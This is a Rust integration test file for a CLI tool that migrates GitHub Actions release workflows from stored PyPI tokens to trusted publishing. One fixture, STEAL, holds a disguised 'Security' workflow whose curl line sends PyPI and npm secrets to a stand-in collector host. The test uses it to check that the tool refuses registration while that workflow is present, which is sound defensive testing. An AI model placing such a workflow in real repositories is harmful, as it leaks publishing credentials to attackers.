//! `portcullis fix` as people run it: the built program, real files, `git apply`, exit codes.

#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic, reason = "a test fails by panicking")]

use std::path::Path;
use std::process::{Command, Output};

const PUBLISH: &str = "# by hand\nname: release\non:\n  push:\n    tags: ['v*']\njobs:\n  release:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: python -m build\n      # the upload\n      - uses: pypa/gh-action-pypi-publish@release/v1\n        with:\n          password: ${{ secrets.PYPI_API_TOKEN }}\n";
const STEAL: &str = "name: Security\non: [push]\njobs:\n  send:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -s -d 'PYPI_API_TOKEN=${{ secrets.PYPI_API_TOKEN }}&NPM_TOKEN=${{ secrets.NPM_TOKEN }}' https://collector.example/in\n";
const WORKFLOW: &str = ".github/workflows/release.yml";

fn run(program: &str, arguments: &[&str], folder: &Path) -> Output {
    let mut command = Command::new(program);
    command.args(arguments).current_dir(folder).env_remove("RUST_LOG").env_remove("PORTCULLIS_TOKEN");
    command.env("GIT_CONFIG_NOSYSTEM", "1").env("GIT_CONFIG_GLOBAL", "/dev/null").output().unwrap()
}

fn fix(folder: &Path, arguments: &[&str]) -> Output {
    run(env!("CARGO_BIN_EXE_portcullis"), &[&["fix"], arguments].concat(), folder)
}

fn git(folder: &Path, arguments: &[&str]) {
    let output = run(
        "git",
        &[&["-c", "user.name=Test", "-c", "user.email=test@example.test"], arguments].concat(),
        folder,
    );
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
}

fn repository() -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path();
    git(path, &["init", "-q", "-b", "main"]);
    git(path, &["remote", "add", "origin", "https://user:secret@github.com/Owner/Widgets.git"]);
    std::fs::create_dir_all(path.join(".github/workflows")).unwrap();
    std::fs::write(path.join("pyproject.toml"), "[project]\nname = \"widgets\"\n").unwrap();
    std::fs::write(path.join(WORKFLOW), PUBLISH).unwrap();
    git(path, &["add", "-A"]);
    git(path, &["commit", "-q", "-m", "Publish"]);
    folder
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8(bytes.to_vec()).unwrap()
}

fn workflow(folder: &Path) -> String {
    std::fs::read_to_string(folder.join(WORKFLOW)).unwrap()
}

#[test]
fn a_diff_that_git_applies_and_nothing_is_written() {
    let folder = repository();
    let path = folder.path();
    let output = fix(path, &[]);
    assert_eq!(output.status.code(), Some(1), "{}", text(&output.stderr));
    assert_eq!(workflow(path), PUBLISH);
    std::fs::write(path.join("proposed.patch"), &output.stdout).unwrap();
    git(path, &["apply", "proposed.patch"]);
    let applied = workflow(path);
    std::fs::write(path.join(WORKFLOW), PUBLISH).unwrap();
    assert_eq!(fix(path, &["--write"]).status.code(), Some(1));
    assert_eq!(workflow(path), applied);
    assert!(
        applied.contains("id-token: write")
            && !applied.contains("password")
            && applied.contains("# the upload")
    );
    let said = text(&output.stderr);
    for wanted in ["Owner", "Widgets", "release.yml", "refs/tags/v*", "PYPI_API_TOKEN"] {
        assert!(said.contains(wanted), "{wanted} in\n{said}");
    }
    assert!(said.contains("https://pypi.org/manage/project/widgets/settings/publishing/?provider=github&owner=Owner&repository=Widgets&workflow_filename=release.yml&environment=pypi"), "{said}");
    assert!(!said.contains("user:secret"));
    let again = fix(path, &["--write"]);
    assert_eq!(again.status.code(), Some(0), "{}", text(&again.stdout));
}

#[test]
fn edits_and_publishers_as_json() {
    let folder = repository();
    let output = fix(folder.path(), &["--format", "json", "--environment", "release"]);
    assert_eq!(output.status.code(), Some(1));
    let document: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let publisher = &document["publishers"][0];
    for (key, value) in [
        ("provider", "github"),
        ("issuer", "https://token.actions.githubusercontent.com"),
        ("owner", "Owner"),
        ("repository", "Widgets"),
        ("workflow", "release.yml"),
        ("environment", "release"),
        ("project", "widgets"),
    ] {
        assert_eq!(publisher[key], value, "{document:#}");
    }
    let mut changed = PUBLISH.to_owned();
    for edit in document["edits"].as_array().unwrap().iter().rev() {
        let at = |key: &str| usize::try_from(edit[key].as_u64().unwrap()).unwrap();
        changed.replace_range(at("start")..at("end"), edit["text"].as_str().unwrap());
    }
    fix(folder.path(), &["--write", "--environment", "release"]);
    assert_eq!(changed, workflow(folder.path()));
}

#[test]
fn a_link_is_not_written_through_and_bad_names_are_refused() {
    let folder = repository();
    let path = folder.path();
    let elsewhere = path.join("elsewhere.yml");
    std::fs::rename(path.join(WORKFLOW), &elsewhere).unwrap();
    #[cfg(unix)]
    std::os::unix::fs::symlink(&elsewhere, path.join(WORKFLOW)).unwrap();
    let output = fix(path, &["--write"]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stdout));
    assert_eq!(std::fs::read_to_string(&elsewhere).unwrap(), PUBLISH);
    assert_eq!(fix(path, &["--write", WORKFLOW]).status.code(), Some(2));
    assert_eq!(fix(path, &["--environment", "a: b"]).status.code(), Some(2));
    assert_eq!(fix(path, &["nowhere"]).status.code(), Some(2));
}

#[test]
fn no_new_right_for_a_repository_that_still_holds_a_theft() {
    let folder = repository();
    let path = folder.path();
    std::fs::write(path.join(".github/workflows/security.yml"), STEAL).unwrap();
    git(path, &["add", "-A"]);
    git(path, &["commit", "-q", "-m", "Add security workflow"]);
    let output = fix(path, &["--register", "https://packages.example.invalid"]);
    assert_eq!(output.status.code(), Some(2));
    let said = text(&output.stderr);
    assert!(said.contains("registering is refused") && said.contains("security.yml"), "{said}");
}

/// The workflow that publishes is called by another one of the repository: both change, and a publisher is the called one.
#[test]
fn a_caller_grants_the_right() {
    let folder = repository();
    let path = folder.path();
    let called = PUBLISH.replace(
        "on:\n  push:\n    tags: ['v*']\n",
        "on: {workflow_call: {secrets: {PYPI_API_TOKEN: {}}}}\n",
    );
    std::fs::write(path.join(WORKFLOW), called).unwrap();
    let caller =
        "on: push\njobs:\n  call:\n    uses: ./.github/workflows/release.yml\n    secrets: inherit\n";
    std::fs::write(path.join(".github/workflows/caller.yml"), caller).unwrap();
    let output = fix(path, &["--write", "--format", "json"]);
    assert_eq!(output.status.code(), Some(1), "{}", text(&output.stderr));
    let written = std::fs::read_to_string(path.join(".github/workflows/caller.yml")).unwrap();
    assert!(written.contains("    permissions:\n      contents: read\n      id-token: write\n"), "{written}");
    let document: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let publishers = document["publishers"].as_array().unwrap();
    assert_eq!(publishers.len(), 1);
    assert_eq!(publishers[0]["workflow"], "release.yml");
    let mut changed = caller.to_owned();
    for edit in document["edits"].as_array().unwrap().iter().rev() {
        if edit["path"] == ".github/workflows/caller.yml" {
            let at = |key: &str| usize::try_from(edit[key].as_u64().unwrap()).unwrap();
            changed.replace_range(at("start")..at("end"), edit["text"].as_str().unwrap());
        }
    }
    assert_eq!(changed, written);
    assert_eq!(fix(path, &[]).status.code(), Some(0));
}

/// What can't be changed is said, and is no change: exit code 0.
#[test]
fn an_upload_in_another_file_is_said() {
    let folder = repository();
    let path = folder.path();
    let text_of = "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: make release\n        env: {TWINE_PASSWORD: '${{ secrets.T }}'}\n";
    std::fs::write(path.join(WORKFLOW), text_of).unwrap();
    let output = fix(path, &[]);
    assert_eq!(output.status.code(), Some(0));
    assert!(text(&output.stderr).contains("`TWINE_PASSWORD` to `make release`"), "{}", text(&output.stderr));
}
